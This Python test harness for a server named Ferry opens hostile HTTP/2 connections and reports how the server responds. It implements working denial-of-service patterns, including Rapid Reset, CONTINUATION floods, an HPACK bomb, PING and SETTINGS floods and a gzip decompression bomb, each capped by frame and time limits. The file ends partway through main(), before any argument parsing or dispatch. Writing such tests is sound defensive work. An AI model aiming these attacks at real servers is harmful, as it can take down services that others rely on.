#!/usr/bin/env python3
"""Hostile HTTP/2 clients for Ferry's end-to-end tests (`tests/e2e/hostile.rs`).

Each attack connects to ``--target`` (``host:port`` of a Ferry server that
serves the test service ``test.Echo``), sends its pattern and prints what the
server sent back. Frames come from Python's ``h2`` package wherever h2 agrees
to produce them; where h2 refuses to write the bad bytes (a zero
WINDOW_UPDATE, DATA after END_STREAM, endless CONTINUATIONs, a hand-made HPACK
bomb, more streams than the server allows, a frame over the size limit) they
are built by hand and written to the raw socket. The server's answer is read
by a small frame parser of our own (with ``hpack`` for header blocks), so
what is reported is exactly what came off the wire.

Output, one line each (stdout, flushed at once):

    ATTACK                                  the attack frames start now
    RESULT <label> | <outcome> | k=v k=v    one per case; <outcome> is one of
        GOAWAY <ERROR_CODE> <debug data>
        RST_STREAM <stream id> <ERROR_CODE>
        STATUS <grpc-status> HTTP <:status> <grpc-message>
        CLOSED                              EOF without a GOAWAY
        ALIVE                               the connection still answers
        TIMEOUT                             nothing decisive within the time limit

Every attack is bounded: it stops after ``--max-frames`` attack frames or
``--max-seconds``, whichever comes first. The idle attacks wait for the
server's 10 s handshake timers, so they take about that long.
"""

import argparse
import gzip
import select
import socket
import sys
import time
import urllib.parse

import h2.config
import h2.connection
import h2.errors
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY = 0x20

ECHO_PATH = b"/test.Echo/Unary"


def frame(kind, flags, stream_id, payload=b""):
    """One frame, built by hand (for what h2 refuses to send)."""
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + (stream_id & 0x7FFFFFFF).to_bytes(4, "big")
        + payload
    )


def reason_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def clean(text):
    """Text that fits on one RESULT line."""
    if isinstance(text, (bytes, bytearray)):
        text = bytes(text).decode("utf-8", "replace")
    out = "".join(c if c.isprintable() else "?" for c in text)
    return out.replace("|", "/").strip()


def varint(n):
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def echo_message(text):
    """The test service's `Msg { text }` in protobuf (field 1, a string)."""
    raw = text.encode()
    return b"\x0a" + varint(len(raw)) + raw


def grpc_frame(message, compressed=False):
    return bytes([1 if compressed else 0]) + len(message).to_bytes(4, "big") + message


def reply_text(data):
    """Field 1 of the first response message, or '' (a tiny protobuf reader)."""
    if len(data) < 5:
        return ""
    body = bytes(data[5 : 5 + int.from_bytes(data[1:5], "big")])
    i = 0
    while i < len(body):
        key, i = read_varint(body, i)
        field, wire = key >> 3, key & 7
        if wire == 0:
            _, i = read_varint(body, i)
        elif wire == 2:
            n, i = read_varint(body, i)
            if field == 1:
                return body[i : i + n].decode("utf-8", "replace")
            i += n
        else:
            return ""
    return ""


def read_varint(buf, i):
    n = shift = 0
    while i < len(buf):
        b = buf[i]
        i += 1
        n |= (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            break
    return n, i


def request_headers(extra=(), path=ECHO_PATH):
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"ferry.test"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ] + list(extra)


def list_size(fields):
    """Decoded header-list size as RFC 9113 counts it: name + value + 32."""
    return sum(len(n) + len(v) + 32 for n, v in fields)


class Stream:
    def __init__(self):
        self.headers = None
        self.trailers = None
        self.data = bytearray()
        self.ended = False
        self.reset = None


class Peer:
    """One client connection: h2 writes frames, our parser reads the server's.

    ``feed_h2`` passes the server's bytes to h2 too, so its stream states
    follow the server's resets (only the attacks that open many streams
    through h2 need that). Without it the SETTINGS and PINGs the server sends
    are acknowledged by hand, unless ``ack_settings`` is off.
    """

    def __init__(self, target, feed_h2=False, rcvbuf=None, sndbuf=None, ack_settings=True):
        host, port = target.rsplit(":", 1)
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if sndbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, sndbuf)
        sock.settimeout(5)
        sock.connect((host, int(port)))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = sock
        self.h2 = h2.connection.H2Connection(
            config=h2.config.H2Configuration(
                client_side=True,
                header_encoding=None,
                validate_outbound_headers=False,
                normalize_outbound_headers=False,
                validate_inbound_headers=False,
            )
        )
        self.feed_h2 = feed_h2
        self.ack_settings = ack_settings
        self.h2_error = None
        self.inbuf = bytearray()
        self.decoder = hpack.Decoder()
        self.block = None
        self.eof = False
        self.send_failed = False
        self.goaway = None
        self.goaway_at = None
        self.rsts = []
        self.ping_acks = 0
        self.settings_acks = 0
        self.server_settings = 0
        self.window_updates = {}
        self.streams = {}
        self.opened_at = time.monotonic()
        self.closed_at = None

    # ---- writing ----

    def send(self, data=b""):
        """Writes what h2 has queued, then `data`. False once the socket failed."""
        out = self.h2.data_to_send() + data
        if not out or self.send_failed:
            return not self.send_failed
        try:
            self.sock.sendall(out)
            return True
        except OSError:
            self.send_failed = True
            return False

    def handshake(self):
        """Preface and SETTINGS (h2's), then wait for the server's SETTINGS
        and for its ACK of ours."""
        self.h2.initiate_connection()
        self.send()
        self.wait(lambda: self.server_settings > 0 and self.settings_acks > 0, 5)
        if not (self.server_settings and self.settings_acks):
            raise RuntimeError("no SETTINGS exchange with the server")

    def raw_headers(self, stream_id, fields, end_stream=False):
        """A HEADERS frame encoded with h2's HPACK encoder but not through
        h2's stream state machine (which would refuse the stream)."""
        block = self.h2.encoder.encode(fields)
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream_id, block)

    # ---- reading ----

    def pump(self, timeout=0.0):
        """Reads whatever has arrived, waiting up to `timeout` for the first
        bytes. False at EOF."""
        first = True
        while not self.eof:
            ready, _, _ = select.select([self.sock], [], [], timeout if first else 0)
            first = False
            if not ready:
                break
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                chunk = b""
            if not chunk:
                self.eof = True
                self.closed_at = time.monotonic()
                break
            self.absorb(chunk)
        return not self.eof

    def wait(self, done, timeout):
        """Reads until `done()` holds, the connection ends or `timeout` passes."""
        deadline = time.monotonic() + timeout
        while not done() and not self.eof:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.pump(min(left, 0.05))
        return done()

    def absorb(self, chunk):
        if self.feed_h2 and self.h2_error is None:
            try:
                self.h2.receive_data(bytes(chunk))
                self.send()
            except Exception as e:  # noqa: BLE001 - reported, the raw parser goes on
                self.h2_error = f"{type(e).__name__}: {e}"
        buf = self.inbuf
        buf += chunk
        pos, n = 0, len(buf)
        while n - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            end = pos + 9 + length
            if end > n:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            self.on_frame(kind, flags, sid, bytes(buf[pos + 9 : end]))
            pos = end
        del buf[:pos]

    def stream(self, sid):
        return self.streams.setdefault(sid, Stream())

    def on_frame(self, kind, flags, sid, payload):
        answering = not (self.feed_h2 and self.h2_error is None)
        if kind == DATA:
            if flags & PADDED and payload:
                payload = payload[1 : len(payload) - payload[0]]
            st = self.stream(sid)
            st.data += payload
            if flags & END_STREAM:
                st.ended = True
        elif kind == HEADERS:
            fragment = payload
            if flags & PADDED and fragment:
                fragment = fragment[1 : len(fragment) - fragment[0]]
            if flags & PRIORITY:
                fragment = fragment[5:]
            self.block = [sid, bytearray(fragment), bool(flags & END_STREAM)]
            if flags & END_HEADERS:
                self.end_block()
        elif kind == CONTINUATION:
            if self.block is not None:
                self.block[1] += payload
                if flags & END_HEADERS:
                    self.end_block()
        elif kind == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            self.rsts.append((sid, code))
            self.stream(sid).reset = code
        elif kind == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.server_settings += 1
                if answering and self.ack_settings:
                    self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif answering:
                self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            if self.goaway is None:
                last = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (code, last, payload[8:])
                self.goaway_at = time.monotonic()
        elif kind == WINDOW_UPDATE:
            inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            self.window_updates[sid] = self.window_updates.get(sid, 0) + inc

    def end_block(self):
        sid, block, end = self.block
        self.block = None
        fields = self.decoder.decode(bytes(block), raw=True)
        st = self.stream(sid)
        if st.headers is None:
            st.headers = fields
        else:
            st.trailers = fields
        if end:
            st.ended = True

    # ---- what the server said ----

    def conn_outcome(self):
        if self.goaway is not None:
            code, _, debug = self.goaway
            return f"GOAWAY {reason_name(code)} {clean(debug)}".strip()
        if self.eof:
            return "CLOSED"
        return "ALIVE"

    def stream_done(self, sid):
        st = self.streams.get(sid)
        return self.eof or (st is not None and (st.ended or st.reset is not None))

    def stream_outcome(self, sid):
        st = self.streams.get(sid)
        if st is not None:
            status = grpc_status(st)
            if status is not None:
                return status
            if st.reset is not None:
                return f"RST_STREAM {sid} {reason_name(st.reset)}"
        if self.goaway is not None or self.eof:
            return self.conn_outcome()
        return "TIMEOUT"


def header(fields, name):
    for n, v in fields or ():
        if n == name:
            return v
    return None


def grpc_status(st):
    """`STATUS <code> HTTP <status> <message>` from the trailers (or a
    Trailers-Only response), None when there is no grpc-status."""
    for block in (st.trailers, st.headers):
        code = header(block, b"grpc-status")
        if code is None:
            continue
        http = header(st.headers, b":status") or b"?"
        message = header(block, b"grpc-message") or b""
        message = urllib.parse.unquote(message.decode("ascii", "replace"))
        return f"STATUS {code.decode()} HTTP {http.decode()} {clean(message)}".strip()
    return None


def result(label, outcome, **fields):
    kv = " ".join(f"{k}={v}" for k, v in fields.items())
    print(f"RESULT {label} | {outcome} | {kv}", flush=True)


def start():
    print("ATTACK", flush=True)
    return time.monotonic()


def unary(peer, sid, text="after", extra=(), body=True, timeout=5):
    """A unary call through h2; returns its outcome and reply text."""
    peer.h2.send_headers(sid, request_headers(extra), end_stream=not body)
    if body:
        peer.h2.send_data(sid, grpc_frame(echo_message(text)), end_stream=True)
    peer.send()
    peer.wait(lambda: peer.stream_done(sid), timeout)
    st = peer.stream(sid)
    return peer.stream_outcome(sid), reply_text(st.data)


def after_call(peer, sid):
    """The connection still serves a normal call after the attack."""
    outcome, reply = unary(peer, sid)
    result("after", outcome, reply=clean(reply) or "-")


def accepted_fields(sent, accepted, elapsed):
    return {"accepted": accepted, "sent": sent, "elapsed": f"{elapsed:.3f}"}


# ---------------------------------------------------------------- attacks


def rapid_reset(args):
    """Streams opened and at once reset by us (CVE-2023-44487)."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    sid, pairs = 1, 0
    while pairs < args.max_frames and p.goaway is None and not p.eof:
        if time.monotonic() - t0 > args.max_seconds:
            break
        for _ in range(25):
            p.h2.send_headers(sid, request_headers())
            p.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            sid += 2
            pairs += 1
        if not p.send():
            break
        p.pump(0)
    p.wait(lambda: p.goaway is not None, 3)
    elapsed = (p.goaway_at or time.monotonic()) - t0
    # The GOAWAY names the last stream the server took: every stream up to
    # it was opened and reset; the reset of the last one tripped the limit.
    last = p.goaway[1] if p.goaway else 0
    accepted = max(0, (last + 1) // 2 - 1)
    result("main", p.conn_outcome(), last_stream=last, **accepted_fields(pairs, accepted, elapsed))


def provoked_reset(args, data_after_end):
    """Streams the server must reset because of what we send on them
    (CVE-2025-8671): a zero WINDOW_UPDATE increment (PROTOCOL_ERROR), or DATA
    on a stream we already ended (STREAM_CLOSED)."""
    p = Peer(args.target, feed_h2=True)
    p.handshake()
    want = h2.errors.ErrorCodes.STREAM_CLOSED if data_after_end else h2.errors.ErrorCodes.PROTOCOL_ERROR
    t0 = start()
    sid, sent = 1, 0
    while sent < args.max_frames and p.goaway is None and not p.eof:
        if time.monotonic() - t0 > args.max_seconds:
            break
        out = b""
        batch = []
        for _ in range(20):
            if data_after_end:
                p.h2.send_headers(sid, request_headers(), end_stream=True)
                # h2 refuses DATA on a stream it ended: by hand.
                out += p.h2.data_to_send() + frame(DATA, 0, sid, b"\x00")
            else:
                p.h2.send_headers(sid, request_headers())
                # h2 refuses a zero increment: by hand.
                out += p.h2.data_to_send() + frame(WINDOW_UPDATE, 0, sid, (0).to_bytes(4, "big"))
            batch.append(sid)
            sid += 2
            sent += 1
        if not p.send(out):
            break
        # Each stream of the batch ends (reset or answered) before the next
        # batch, so h2's count of open streams stays under the server's limit.
        p.wait(lambda: p.goaway is not None or all(p.stream_done(s) for s in batch), 3)
    p.wait(lambda: p.goaway is not None, 3)
    elapsed = (p.goaway_at or time.monotonic()) - t0
    provoked = sum(1 for _, code in p.rsts if code == want)
    other = len(p.rsts) - provoked
    answered = sum(1 for st in p.streams.values() if st.headers is not None)
    result(
        "main",
        p.conn_outcome(),
        other_rsts=other,
        answered=answered,
        h2_error="yes" if p.h2_error else "no",
        **accepted_fields(sent, provoked, elapsed),
    )


def continuation_flood(args, fragment, limit_frames):
    """A header block that never ends. `limit_frames` CONTINUATIONs are sent
    and then our side is closed: if the server had cut us off, it would have
    said so with a GOAWAY before seeing the end of input. On a second
    connection one more CONTINUATION must be cut off."""
    headers_start = frame(HEADERS, 0, 1, fragment)
    cont = frame(CONTINUATION, 0, 1, fragment)
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    p.send(headers_start + cont * limit_frames)
    p.sock.shutdown(socket.SHUT_WR)
    p.wait(lambda: False, 3)
    result("at-limit", p.conn_outcome(), sent=limit_frames)

    q = Peer(args.target)
    q.handshake()
    q.send(headers_start + cont * (limit_frames + 1))
    sent = limit_frames + 1
    # Keep going (bounded) if the cut-off does not come.
    while not q.wait(lambda: q.goaway is not None, 0.5) and not q.eof:
        if sent >= args.max_frames or time.monotonic() - t0 > args.max_seconds:
            break
        if not q.send(cont * 10):
            break
        sent += 10
    q.wait(lambda: q.goaway is not None, 2)
    result("over-limit", q.conn_outcome(), sent=sent)


def hpack_bomb(args):
    """A 6 KB header block that decodes to 8 MB: one 4,000-byte entry put in
    the dynamic table, then referenced 2,000 times (CVE-2016-6581)."""
    p = Peer(args.target)
    p.handshake()
    # Dynamic table size updates to 0 and back to 4,096 empty the server's
    # table, so a fresh encoder (also empty) encodes the request in step.
    block = b"\x20\x3f\xe1\x1f"
    block += hpack.Encoder().encode(request_headers())
    value = b"a" * 4000
    block += b"\x40\x06x-bomb\x7f\xa1\x1e" + value  # literal, incremental indexing
    block += bytes([0x80 | 62]) * 2000  # the newest dynamic entry, again and again
    decoded = list_size(request_headers()) + 2001 * (6 + len(value) + 32)
    t0 = start()
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    p.wait(lambda: p.stream_done(1), 5)
    result("bomb", p.stream_outcome(1), block_bytes=len(block), decoded_bytes=decoded,
           elapsed=f"{time.monotonic() - t0:.3f}")
    # h2's own encoder starts its next block by emptying the table as well,
    # so both sides are in step again.
    p.h2.encoder.header_table_size = 0
    p.h2.encoder.header_table_size = 4096
    after_call(p, 3)


def ping_flood(args):
    """PINGs in batches of 10 (CVE-2019-9512), each batch's ACKs read before
    the next batch goes out, as a client pacing itself to its RTT would. Every
    PING the server accepted comes back as an ACK before its GOAWAY, so the
    count is exact whatever the timing."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    sent = 0
    while sent < args.max_frames and p.goaway is None and not p.eof:
        if time.monotonic() - t0 > args.max_seconds:
            break
        for _ in range(10):
            p.h2.ping(sent.to_bytes(8, "big"))
            sent += 1
        if not p.send():
            break
        p.wait(lambda: p.ping_acks >= sent or p.goaway is not None, 3)
    p.wait(lambda: p.goaway is not None, 1)
    elapsed = (p.goaway_at or time.monotonic()) - t0
    result("main", p.conn_outcome(), **accepted_fields(sent, p.ping_acks, elapsed))


def settings_flood(args):
    """Empty SETTINGS frames (CVE-2019-9515); each accepted one is ACKed."""
    p = Peer(args.target)
    p.handshake()
    acks_before = p.settings_acks
    t0 = start()
    sent = 0
    while sent < args.max_frames and p.goaway is None and not p.eof:
        if time.monotonic() - t0 > args.max_seconds:
            break
        for _ in range(10):
            p.h2.update_settings({})
            sent += 1
        if not p.send():
            break
        p.pump(0)
    p.wait(lambda: p.goaway is not None, 3)
    elapsed = (p.goaway_at or time.monotonic()) - t0
    accepted = p.settings_acks - acks_before
    result("main", p.conn_outcome(), handshake_settings=acks_before,
           **accepted_fields(sent, accepted, elapsed))


def lockstep_flood(p, args, t0, make, burst, step):
    """Frames that get no answer of their own, counted exactly with PINGs:
    `burst` of them and a PING (its ACK proves all were accepted), then
    `step` at a time, each followed by a PING, until the GOAWAY. A frame is
    counted as accepted only once the PING after it came back."""
    pings = 0

    def round_trip(count):
        nonlocal pings
        acks = p.ping_acks
        p.send(make(count))
        p.h2.ping((1 << 62 | pings).to_bytes(8, "big"))
        pings += 1
        p.send()
        p.wait(lambda: p.ping_acks > acks or p.goaway is not None, 3)
        return p.ping_acks > acks

    sent = burst
    burst_ok = round_trip(burst)
    accepted = burst if burst_ok else 0
    while burst_ok and p.goaway is None and not p.eof and sent < args.max_frames:
        if time.monotonic() - t0 > args.max_seconds:
            break
        sent += step
        if round_trip(step):
            accepted += step
    p.wait(lambda: p.goaway is not None, 3)
    elapsed = (p.goaway_at or time.monotonic()) - t0
    return dict(burst_ok="yes" if burst_ok else "no", step=step, pings=pings,
                **accepted_fields(sent, accepted, elapsed))


def empty_frames(args):
    """DATA frames with no payload and no END_STREAM (CVE-2019-9518)."""
    p = Peer(args.target)
    p.handshake()
    p.h2.send_headers(1, request_headers())
    p.send()

    def make(n):
        for _ in range(n):
            p.h2.send_data(1, b"")
        return b""

    t0 = start()
    fields = lockstep_flood(p, args, t0, make, burst=100, step=1)
    result("main", p.conn_outcome(), **fields)


def window_dribble(args):
    """Reopens a closed connection window one byte at a time, so the server
    can only send one-byte DATA frames: a server-streaming call with far more
    to send than the 65,535-byte connection window (its stream window opened
    wide), then, once the window is used up, WINDOW_UPDATEs of one byte,
    each sent after the byte the previous one let through has arrived."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    # Msg { count: 1000 (field 2), payload: 1 KiB (field 4) }
    message = b"\x10" + varint(1000) + b"\x22" + varint(1024) + b"x" * 1024
    p.h2.send_headers(1, request_headers(path=b"/test.Echo/ServerStream"), end_stream=False)
    p.h2.send_data(1, grpc_frame(message), end_stream=True)
    p.send(frame(WINDOW_UPDATE, 0, 1, (1 << 24).to_bytes(4, "big")))

    def received():
        return len(p.stream(1).data)

    p.wait(lambda: received() >= 65535 or p.goaway is not None, 5)
    window_used = received()
    updates = 0
    while p.goaway is None and not p.eof and updates < args.max_frames:
        if time.monotonic() - t0 > args.max_seconds:
            break
        before = received()
        if not p.send(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))):
            break
        updates += 1
        p.wait(lambda: received() > before or p.goaway is not None or p.eof, 3)
    p.wait(lambda: p.goaway is not None, 3)
    result("main", p.conn_outcome(), window_used=window_used, updates=updates)


def zero_length_headers(args):
    """Header lists of empty fields, whose cost is the 32-byte overhead only:
    the field cap (256) applies. The first list is exactly at the cap."""
    p = Peer(args.target)
    p.handshake()
    base = len(request_headers())
    t0 = start()
    for label, sid, count in (("at-limit", 1, 256), ("over-limit", 3, 257), ("flood", 5, 2000)):
        extra = [(b"e%d" % i, b"") for i in range(count - base)]
        outcome, reply = unary(p, sid, text=label, extra=extra)
        result(label, outcome, fields=count, reply=clean(reply) or "-")
    result("timing", p.conn_outcome(), elapsed=f"{time.monotonic() - t0:.3f}")
    after_call(p, 7)


def huge_metadata(args):
    """Header lists around and far over the 16 KiB limit (name + value + 32
    per field): exactly at it, one byte over, one 24,000-byte value (in
    HEADERS + CONTINUATION), and 100 fields of 200 bytes."""
    p = Peer(args.target)
    p.handshake()
    limit = 16 << 10
    base = list_size(request_headers([(b"x-pad", b"")]))
    t0 = start()
    cases = (
        ("at-limit", 1, [(b"x-pad", b"p" * (limit - base))]),
        ("over-limit", 3, [(b"x-pad", b"p" * (limit - base + 1))]),
        ("one-big", 5, [(b"x-big", (b"0123456789abcdefghijklmnopqrstuvwxyz" * 700)[:24000])]),
        ("many", 7, [(b"x-m%d" % i, b"m" * 200) for i in range(100)]),
    )
    for label, sid, extra in cases:
        size = list_size(request_headers(extra))
        outcome, reply = unary(p, sid, text=label, extra=extra)
        result(label, outcome, list_size=size, reply=clean(reply) or "-")
    result("timing", p.conn_outcome(), elapsed=f"{time.monotonic() - t0:.3f}")
    after_call(p, 9)


def bad_values(args, name, bad, good):
    """Requests whose `name` header is malformed (HEADERS only, END_STREAM),
    then well-formed ones on the same connection."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    sid = 1
    for value in bad:
        outcome, _ = unary(p, sid, extra=[(name, value)], body=False)
        result(f"bad:{clean(value) or '(empty)'}", outcome)
        sid += 2
    for value in good:
        outcome, reply = unary(p, sid, extra=[(name, value)])
        result(f"good:{clean(value)}", outcome, reply=clean(reply).replace(" ", "_") or "-")
        sid += 2
    result("timing", p.conn_outcome(), elapsed=f"{time.monotonic() - t0:.3f}")


def oversized_message(args):
    """A message whose length prefix says 16 MiB, over the 4 MiB receive
    limit; only the first 16 KiB of it is sent. The server must answer from
    the prefix, without opening its window for (or buffering) the rest."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    p.h2.send_headers(1, request_headers())
    first = bytes([0]) + (16 << 20).to_bytes(4, "big") + bytes(16384 - 5)
    p.h2.send_data(1, first)
    p.send()
    p.wait(lambda: p.stream_done(1), 5)
    p.wait(lambda: False, 0.3)  # what else the server sends on the stream
    rst = p.streams[1].reset if 1 in p.streams else None
    result(
        "main",
        p.stream_outcome(1),
        stream_window_opened=p.window_updates.get(1, 0),
        conn_window_opened=p.window_updates.get(0, 0),
        rst=reason_name(rst) if rst is not None else "-",
        sent_bytes=len(first),
        elapsed=f"{time.monotonic() - t0:.3f}",
    )
    after_call(p, 3)


def decompression_bomb(args):
    """16 KB of gzip that inflates to 16 MiB, over the 4 MiB limit."""
    p = Peer(args.target)
    p.handshake()
    bomb = gzip.compress(bytes(16 << 20), compresslevel=9)
    t0 = start()
    p.h2.send_headers(1, request_headers([(b"grpc-encoding", b"gzip")]))
    p.h2.send_data(1, grpc_frame(bomb, compressed=True), end_stream=True)
    p.send()
    p.wait(lambda: p.stream_done(1), 5)
    result("main", p.stream_outcome(1), compressed_bytes=len(bomb), inflated_bytes=16 << 20,
           elapsed=f"{time.monotonic() - t0:.3f}")
    after_call(p, 3)


def excess_streams(args):
    """One stream more than SETTINGS_MAX_CONCURRENT_STREAMS (200); h2 will
    not open it, so the HEADERS are written by hand (with h2's encoder)."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    out = b"".join(p.raw_headers(2 * i + 1, request_headers()) for i in range(201))
    p.send(out)
    p.wait(lambda: p.stream_done(401), 5)
    result("refused", p.stream_outcome(401), open=200, rsts=len(p.rsts),
           elapsed=f"{time.monotonic() - t0:.3f}")
    # The first stream still works: its request message completes the call.
    p.send(frame(DATA, END_STREAM, 1, grpc_frame(echo_message("after"))))
    p.wait(lambda: p.stream_done(1), 5)
    result("after", p.stream_outcome(1), reply=clean(reply_text(p.stream(1).data)) or "-")


def oversized_frame(args):
    """A frame header announcing 16,777,215 bytes and no payload: refused
    from the header alone."""
    p = Peer(args.target)
    p.handshake()
    t0 = start()
    p.send(b"\xff\xff\xff" + bytes([DATA, 0]) + (1).to_bytes(4, "big"))
    p.wait(lambda: p.goaway is not None, 5)
    result("main", p.conn_outcome(), elapsed=f"{time.monotonic() - t0:.3f}")


def never_read(args):
    """PINGs written without ever reading the ACKs, with small socket
    buffers. The server may pause reading (our writes stall) or cut us off;
    then we read everything and count what it answered."""
    p = Peer(args.target, rcvbuf=64 << 10, sndbuf=64 << 10)
    p.handshake()
    ping = frame(PING, 0, 0, b"neverrd!")
    chunk = ping * 4096
    total = args.count * len(ping)
    sent_bytes = 0
    stalled = send_error = False
    acks_before = p.ping_acks
    t0 = start()
    p.sock.setblocking(False)
    last_progress = time.monotonic()
    # --paced: alternate a small write and a large one, a little apart, so
    # the server sometimes reads a few PINGs and then a full buffer of them.
    pattern = [500 * len(ping), 4000 * len(ping)] if args.paced else None
    turn = 0
    while sent_bytes < total:
        if pattern is not None:
            want = pattern[turn % 2]
            turn += 1
            piece = ping * (want // len(ping))
            done = 0
            while done < len(piece) and time.monotonic() - last_progress <= 1.0:
                try:
                    n = p.sock.send(piece[done:])
                except BlockingIOError:
                    select.select([], [p.sock], [], 0.05)
                    continue
                except OSError:
                    send_error = True
                    break
                done += n
                sent_bytes += n
                last_progress = time.monotonic()
            if send_error or done < len(piece):
                stalled = not send_error
                break
            time.sleep(0.002)
            continue
        now = time.monotonic()
        if now - t0 > args.max_seconds:
            break
        if now - last_progress > 1.0:
            stalled = True
            break
        off = sent_bytes % len(chunk)
        try:
            n = p.sock.send(chunk[off : off + min(len(chunk) - off, total - sent_bytes)])
        except BlockingIOError:
            select.select([], [p.sock], [], 0.05)
            continue
        except OSError:
            send_error = True
            break
        sent_bytes += n
        last_progress = time.monotonic()
    write_seconds = time.monotonic() - t0
    # Now read. A frame cut in half by the stall is finished meanwhile
    # (without blocking: the server reads again only once we read), so the
    # server is left with whole PINGs only.
    rest = (len(ping) - sent_bytes % len(ping)) % len(ping)
    tail = ping[len(ping) - rest :]
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not p.eof:
        if tail and not send_error:
            try:
                n = p.sock.send(tail)
                tail = tail[n:]
                sent_bytes += n
            except BlockingIOError:
                pass
            except OSError:
                send_error = True
        done = p.ping_acks - acks_before >= sent_bytes // len(ping)
        if (not tail or send_error) and (done or p.goaway is not None):
            break
        p.pump(0.05)
    sent = sent_bytes // len(ping)
    p.wait(lambda: p.goaway is not None, 0.2)
    result(
        "main",
        p.conn_outcome(),
        sent=sent,
        acked=p.ping_acks - acks_before,
        stalled="yes" if stalled else "no",
        send_error="yes" if send_error else "no",
        sent_bytes=sent_bytes,
        write_seconds=f"{write_seconds:.3f}",
        elapsed=f"{time.monotonic() - t0:.3f}",
    )


def idle(args, what):
    """Connections that go quiet: nothing at all, the preface alone, or a
    full handshake that never acknowledges the server's SETTINGS. The
    server's timers (10 s) must close every one."""
    peers = []
    for _ in range(args.conns):
        p = Peer(args.target, ack_settings=False)
        if what == "preface":
            p.send(PREFACE)
        elif what == "no-ack":
            p.h2.initiate_connection()
            p.send()
        peers.append(p)
    t0 = start()
    deadline = t0 + args.max_seconds
    while time.monotonic() < deadline and not all(p.eof for p in peers):
        live = [p.sock for p in peers if not p.eof]
        select.select(live, [], [], 0.1)
        for p in peers:
            p.pump(0)
    outcomes = [p.conn_outcome() for p in peers]
    closed = [p.closed_at - t0 for p in peers if p.closed_at is not None]
    goaways = [p.goaway_at - t0 for p in peers if p.goaway_at is not None]
    result(
        "main",
        outcomes[0],
        conns=len(peers),
        same=outcomes.count(outcomes[0]),
        closed=len(closed),
        first_goaway=f"{min(goaways):.3f}" if goaways else "-",
        last_closed=f"{max(closed):.3f}" if closed else "-",
    )


ATTACKS = {
    "rapid-reset": rapid_reset,
    "provoked-reset": lambda a: provoked_reset(a, data_after_end=False),
    "provoked-reset-data": lambda a: provoked_reset(a, data_after_end=True),
    "continuation-flood": lambda a: continuation_flood(a, b"\x00", 32),
    # 16,000-byte fragments: two make 32,000 bytes, under twice the 16 KiB
    # header-list limit; a third passes it.
    "continuation-oversize": lambda a: continuation_flood(a, bytes(16000), 1),
    "hpack-bomb": hpack_bomb,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "empty-frames": empty_frames,
    "window-dribble": window_dribble,
    "zero-length-headers": zero_length_headers,
    "huge-metadata": huge_metadata,
    "bad-timeout": lambda a: bad_values(
        a,
        b"grpc-timeout",
        [b"99999999999S", b"1X", b"-1S", b"1", b"", b"1.5S"],
        [b"5S", b"99999999m"],
    ),
    "bad-bin": lambda a: bad_values(
        a,
        b"x-data-bin",
        [b"!!!!", b"Y", b"YW Jj", b"YWJj,%%"],
        [b"YWJj", b"YWI", b"YWI=", b"YWI,YWJj"],
    ),
    "oversized-message": oversized_message,
    "decompression-bomb": decompression_bomb,
    "excess-streams": excess_streams,
    "oversized-frame": oversized_frame,
    "never-read": never_read,
    "idle-silent": lambda a: idle(a, "silent"),
    "idle-preface": lambda a: idle(a, "preface"),
    "idle-no-ack": lambda a: idle(a, "no-ack"),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="host:port of the server")
    parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    parser.add_argument("--max-frames", type=int, default=20_000)
    parser.add_argument("--max-seconds", type=float, default=5.0)
    parser.add_argument("--count", type=int, default=10_000, help="never-read: PINGs to write")
    parser.add_argument("--conns", type=int, default=1, help="idle: connections to open")
    parser.add_argument("--paced", action="store_true", help="never-read: small and large writes in turn")
